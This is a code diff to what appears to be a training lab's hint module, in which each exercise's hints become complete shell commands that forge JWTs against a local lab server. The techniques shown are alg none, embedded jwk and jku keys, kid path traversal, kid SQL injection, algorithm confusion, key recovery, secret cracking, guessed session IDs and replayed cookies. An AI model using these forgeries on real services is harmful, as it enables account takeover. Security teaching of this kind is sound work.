@@ -18,7 +18,10 @@ from authcli.walkthroughs.lab.exercises_oauth import OAUTH_EXERCISES
 
 LOGIN = ("curl -s -X POST {url}/login -H 'Content-Type: application/json' "
          "-d '{{\"email\":\"eve@example.com\",\"password\":\"eve\"}}'")
-SEND = "Send it: curl -s -H \"Authorization: Bearer $FORGED\" {url}/admin"
+# The answer's JSON field, printed (python3: no jq needed); hints set shell variables for the next.
+FIELD = "python3 -c 'import json,sys; print(json.load(sys.stdin)[\"{name}\"])'"
+SEND_CMD = "curl -s -H \"Authorization: Bearer $FORGED\" {url}/admin"
+SEND = "Send it: " + SEND_CMD
 SUB = "--set sub='\"1\"'"  # sub is a StringOrURI: the JSON string "1", never the number 1
 # The server's public JWK written as PEM (SubjectPublicKeyInfo, final newline kept), with the
 # PyJWT and cryptography that authcli installs.
@@ -29,8 +32,20 @@ PEM = ("python3 -c 'import json,sys,jwt; from cryptography.hazmat.primitives imp
 # by verifying both signatures with the key found).
 RECOVER = ("python3 -c 'import sys; from authcli.tokens.parse import split; from authcli.tokens.recover import "
            "recover; sys.stdout.buffer.write(recover(split(sys.argv[1]), split(sys.argv[2])).pem())'")
-DECODE = ("Log in as yourself (" + LOGIN + ") and decode the token it answers: authcli decode $TOKEN "
-          "(without a key it shows what the token claims, unverified).")
+MY_TOKEN = "TOKEN=$(" + LOGIN + " | " + FIELD.format(name="token") + ")"
+
+
+def decode(note: str) -> str:
+    """Hint 1 of a JWT lab: log in, keep the token in $TOKEN, decode it; `note` is the lab's."""
+    return ("Log in as yourself and decode the token it answers (without a key, authcli decode shows what it "
+            "claims, unverified). " + note + " This server takes who you are from sub alone: it never reads "
+            "userId, which a changed token keeps as it was: " + MY_TOKEN + "; authcli decode \"$TOKEN\"")
+
+
+def forge(options: str) -> str:
+    """The forged token for user 1, kept in $FORGED for the next command."""
+    return f"FORGED=$(authcli tamper \"$TOKEN\" {SUB} {options})".replace(" )", ")")
+
 
 
 def _skipped(name: str) -> Callable[[RequestRecord], bool]:
@@ -101,113 +116,125 @@ JWT_TOOLS = ("curl", "authcli decode", "authcli tamper")
 
 EXERCISES: dict[str, Exercise] = {e.name: e for e in [
     Exercise("no-verify", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
-        DECODE + " The claim that says who you are is sub; /admin wants user 1.",
+        decode("/admin wants user 1."),
         "This server reads the claims without checking the signature: a token whose payload was "
         "changed after signing is still believed [^portswigger-jwt].",
-        f"authcli tamper $TOKEN {SUB} changes sub and keeps the old signature; sub stays a string, "
-        "as RFC 7519 asks [^rfc7519-4.1].",
+        "authcli tamper changes sub and keeps the old signature; sub stays a string, as RFC 7519 asks "
+        "[^rfc7519-4.1]: " + forge(""),
         SEND), _skipped("signature")),
     Exercise("alg-none", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
-        DECODE + " Its header's alg says how it was signed.",
+        decode("Its header's alg says how it was signed."),
         "A JWT may be unsecured: alg none and an empty signature [^rfc7518-3.6]. A verifier that lets "
         "the token choose the algorithm accepts one [^rfc8725-3.1].",
-        f"authcli tamper $TOKEN {SUB} --alg none writes alg none and drops the signature, keeping the "
-        "other claims (exp, aud) as they were.",
+        "--alg none writes alg none and drops the signature, keeping the other claims (exp, aud) as they "
+        "were: " + forge("--alg none"),
         SEND), _alg_none),
     Exercise("weak-secret", "Get this run's flag from GET /admin, which answers only user 1.",
              (*JWT_TOOLS, "authcli crack"), (
-        DECODE + " It is HS256: one secret both signs and checks it.",
+        decode("It is HS256: one secret both signs and checks it."),
         "An HMAC signature can be checked against guessed secrets offline, from one token, without "
         "asking the server; a secret a person chose is likely in a wordlist, which is why human-memorizable "
         "passwords MUST NOT be used directly as an HMAC key [^rfc8725-3.5].",
-        "authcli crack $TOKEN tries a wordlist of secrets people really use.",
-        f"authcli tamper $TOKEN {SUB} --secret THE_SECRET signs a token for user 1 with it. " + SEND),
+        "authcli crack tries a wordlist of secrets people really use; keep what it finds in SECRET: "
+        "SECRET=$(authcli crack \"$TOKEN\" | sed -n \"s/^FOUND the HS256 secret is '\\(.*\\)'$/\\1/p\"); "
+        "echo \"secret: $SECRET\"",
+        "Sign a token for user 1 with it, and send it: " + forge("--secret \"$SECRET\"") + "; " + SEND_CMD),
         _own_key),
     Exercise("jwk-header", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
-        DECODE + " It is RS256: signed with the server's private key, which you do not have.",
+        decode("It is RS256: signed with the server's private key, which you do not have."),
         "A server that takes the verifying key from the token's own jwk header accepts a token signed "
         "with any key the attacker made [^portswigger-jwt].",
-        f"authcli tamper $TOKEN {SUB} --embed-jwk makes a key pair, signs with its private half and "
-        "puts the public half in the header's jwk.",
+        "--embed-jwk makes a key pair, signs with its private half and puts the public half in the "
+        "header's jwk: " + forge("--embed-jwk"),
         SEND), _foreign_key),
     Exercise("jku-header", "Get this run's flag from GET /admin, which answers only user 1.",
              (*JWT_TOOLS, "python3 -m http.server"), (
-        DECODE + " It is RS256: signed with the server's private key, which you do not have.",
+        decode("It is RS256: signed with the server's private key, which you do not have."),
         "A jku header names a URL that holds a JWK Set [^rfc7515-4.1.2] [^rfc7517-5]; a server that fetches keys from "
         "whatever URL the token names verifies with the attacker's key [^portswigger-jwt].",
-        f"authcli tamper $TOKEN {SUB} --jku http://127.0.0.1:8000/jwks.json signs with a new key and "
-        "writes its key set to jwks.json. This lab server fetches from loopback only.",
-        "In that folder, serve it: python3 -m http.server 8000 --bind 127.0.0.1. " + SEND), _foreign_key),
+        "--jku signs with a new key and writes its key set to jwks.json in this folder. This lab server "
+        "fetches from loopback only: " + forge("--jku http://127.0.0.1:8000/jwks.json"),
+        "In a second terminal, in the same folder, serve it (python3 -m http.server 8000 --bind 127.0.0.1), "
+        "then, back in this one: " + SEND_CMD), _foreign_key),
     Exercise("kid-path", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
-        DECODE + " Its header's kid names the key the server should use.",
+        decode("Its header's kid names the key the server should use."),
         "kid is only a hint for choosing a key [^rfc7515-4.1.4]; this server joins it to its key "
         "folder and reads that file as the HMAC secret. /dev/null is on every Linux machine and reads "
         "as zero bytes [^portswigger-jwt].",
-        f"authcli tamper $TOKEN {SUB} --header kid=../../../../../../../../dev/null --secret '' "
-        "signs with the empty key (extra ../ are harmless: .. at / stays at /).",
+        "Sign with the empty key (extra ../ are harmless: .. at / stays at /): "
+        + forge("--header kid=../../../../../../../../dev/null --secret ''"),
         SEND), _foreign_key),
     Exercise("alg-confusion", "Get this run's flag from GET /admin, which answers only user 1.", JWT_TOOLS, (
-        DECODE + " It is RS256, and the server publishes its public key at {url}/.well-known/jwks.json: "
-        "anyone may have it [^rfc7517-5].",
+        decode("It is RS256, and the server publishes its public key at {url}/.well-known/jwks.json: "
+               "anyone may have it [^rfc7517-5]."),
         "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the key bytes "
         "it holds, here the public key's PEM, which you have too [^rfc8725-3.1].",
         "Write the key as PEM: curl -s {url}/.well-known/jwks.json | " + PEM + " > public.pem",
-        f"authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem signs with those exact "
-        "bytes (final newline kept). " + SEND), _foreign_key),
+        "Sign with those exact bytes (final newline kept), and send it: "
+        + forge("--alg HS256 --secret-file public.pem") + "; " + SEND_CMD), _foreign_key),
     Exercise("alg-confusion-no-key", "Get this run's flag from GET /admin, which answers only user 1.",
              (*JWT_TOOLS, "python3 with authcli.tokens.recover (pip install 'authcli[gmpy2]')"), (
-        DECODE + " It is RS256, and this server publishes no key: {url}/.well-known/jwks.json is 404.",
+        decode("It is RS256, and this server publishes no key: {url}/.well-known/jwks.json is 404."),
         "An RS256 signature s is m^d mod n, where m is the PKCS #1 v1.5 encoding of header.payload's "
         "SHA-256, which anyone can compute [^rfc8017-9.2]; with e = 65537, s^e - m is a multiple of n "
         "for every token, so the gcd over two tokens gives the public key away [^portswigger-alg-confusion].",
-        "Log in twice (two tokens, T1 and T2), and recover the key as PEM with authcli's own code "
-        "(gmpy2 makes it seconds): " + RECOVER + " \"$T1\" \"$T2\" > public.pem",
+        "Log in once more for a second token, T2, and recover the key as PEM from both with authcli's own "
+        "code (gmpy2 makes it seconds): " + MY_TOKEN.replace("TOKEN=", "T2=", 1) + "; " + RECOVER
+        + " \"$TOKEN\" \"$T2\" > public.pem",
         "A verifier that lets the token's alg decide checks an HS256 token's HMAC with the public key's "
-        f"PEM [^rfc8725-3.1]: authcli tamper $TOKEN {SUB} --alg HS256 --secret-file public.pem. " + SEND),
+        "PEM [^rfc8725-3.1]. Sign with it, and send it: " + forge("--alg HS256 --secret-file public.pem")
+        + "; " + SEND_CMD),
         _foreign_key),
     Exercise("kid-sql", "Get this run's flag from GET /admin, which answers only user 1.",
              (*JWT_TOOLS, "authcli sign"), (
-        DECODE + " Its header's kid names the key the server should use: the name of a row in its "
-        "SQLite keys table.",
+        decode("Its header's kid names the key the server should use: the name of a row in its SQLite "
+               "keys table."),
         "This server finds the key with SQL built from kid's text, between single quotes. A kid that "
         "closes the quote and adds UNION SELECT 'a string' makes the query return that string as the "
         "key [^webgoat-jwt].",
         "Pick your own secret, say known-secret, and write a kid that returns it: "
         "x' UNION SELECT 'known-secret' -- (-- makes the rest of the line a comment [^sqlite-comments]).",
-        f"authcli tamper $TOKEN {SUB} --header \"kid=x' UNION SELECT 'known-secret' --\" "
-        "--secret known-secret signs a token for user 1 with that secret. " + SEND), _kid_as_sql),
+        "Sign a token for user 1 with that secret, and send it: "
+        + forge("--header \"kid=x' UNION SELECT 'known-secret' --\" --secret known-secret") + "; " + SEND_CMD),
+        _kid_as_sql),
     Exercise("no-exp", "Get this run's flag from GET /admin with the token of user 1's found in an "
              "old log file (shown below).", ("curl", "authcli decode"), (
-        "Decode the old token: authcli decode $OLD. Look at exp, and at today's date.",
+        "Decode the old token (OLD, pasted from the start) and look at exp, and "
+        "at today's date: authcli decode \"$OLD\"",
         "exp is the time on or after which a token must not be accepted [^rfc7519-4.1.4]; this server "
         "never looks at it.",
         "Send it as it is: curl -s -H \"Authorization: Bearer $OLD\" {url}/admin"),
-        _skipped("exp"), leaked="Found in an old log file, user 1's token: {value}"),
+        _skipped("exp"), leaked="Found in an old log file, user 1's token; paste this line into your shell:\n"
+        "  OLD='{value}'"),
     Exercise("predictable-id", "Get this run's flag from GET /admin, which answers only user 1. User 1 "
              "logged in when this exercise started.", ("curl",), (
-        "Log in as yourself with curl -i, which shows the answer's headers: " + LOGIN.replace("-s", "-si")
-        + ". Your session ID is in Set-Cookie.",
+        "Log in as yourself: your session ID is in the answer's Set-Cookie header (curl -i shows the headers). "
+        "Keep it in MINE: MINE=$(" + LOGIN.replace("-s", "-si") + " | tr -d '\\r' | sed -n "
+        "'s/^[Ss]et-[Cc]ookie: sessionId=\\([^;]*\\).*/\\1/p'); echo \"your session ID: $MINE\"",
         "A session ID is all that says who you are, so it must be unguessable: OWASP asks for at least "
         "64 bits of entropy from a secure random generator [^owasp-session-entropy]. Is yours random?",
         "User 1 logged in when the exercise started, before anyone else: their ID is the first this "
         "server gave out, one less than the ID of your first login.",
-        "Send it: curl -s -H 'Cookie: sessionId=THEIR_ID' {url}/admin"), _session_of_user_1),
+        "Send theirs, one less than yours: curl -s -H \"Cookie: sessionId=$((MINE - 1))\" {url}/admin"),
+        _session_of_user_1),
     Exercise("logout-cookie-only", "Get this run's flag from GET /admin, which answers only user 1, with "
              "user 1's cookie, copied before user 1 logged out (shown below).", ("curl",), (
         "User 1 logged out: the answer to POST /logout cleared the cookie in their browser (Max-Age=0). "
         "Your copy is not in their browser.",
         "Logging out must end the session on the server, not only remove the cookie "
         "[^owasp-session-expiration].",
-        "Send the copy: curl -s -H 'Cookie: sessionId=THE_COPY' {url}/admin"),
-        _session_of_user_1, leaked="Copied from a shared computer before user 1 logged out: sessionId={value}"),
+        "Send the copy (COPY, pasted from the start): curl -s -H \"Cookie: sessionId=$COPY\" {url}/admin"),
+        _session_of_user_1, leaked="Copied from a shared computer before user 1 logged out, their session ID; paste "
+        "this line into your shell:\n  COPY='{value}'"),
     Exercise("no-server-expiry", "Get this run's flag from GET /admin, which answers only user 1, with "
              "user 1's cookie, copied before its Max-Age ran out (shown below).", ("curl",), (
         "The cookie's Max-Age told user 1's browser when to delete it [^mdn-set-cookie]: after 1 s. A "
         "copy made elsewhere is not bound by that.",
         "A server must end a session at its own deadline, whatever the client still sends "
         "[^owasp-session-expiration].",
-        "Send the copy: curl -s -H 'Cookie: sessionId=THE_COPY' {url}/admin"),
-        _session_of_user_1, leaked="Copied from user 1's browser; its Max-Age (1 s) has passed: sessionId={value}"),
+        "Send the copy (COPY, pasted from the start): curl -s -H \"Cookie: sessionId=$COPY\" {url}/admin"),
+        _session_of_user_1, leaked="Copied from user 1's browser, their session ID; its Max-Age (1 s) has passed. "
+        "Paste this line into your shell:\n  COPY='{value}'"),
     Exercise("no-rate-limit", "Get this run's flag from GET /admin, which answers only user 1 (a@b.com), by "
              "guessing user 1's password: it is one of the secrets in the list below.", ("curl", "a shell loop"), (
         "Log in as a@b.com with a wrong password a few times: does the server ever stop answering?",
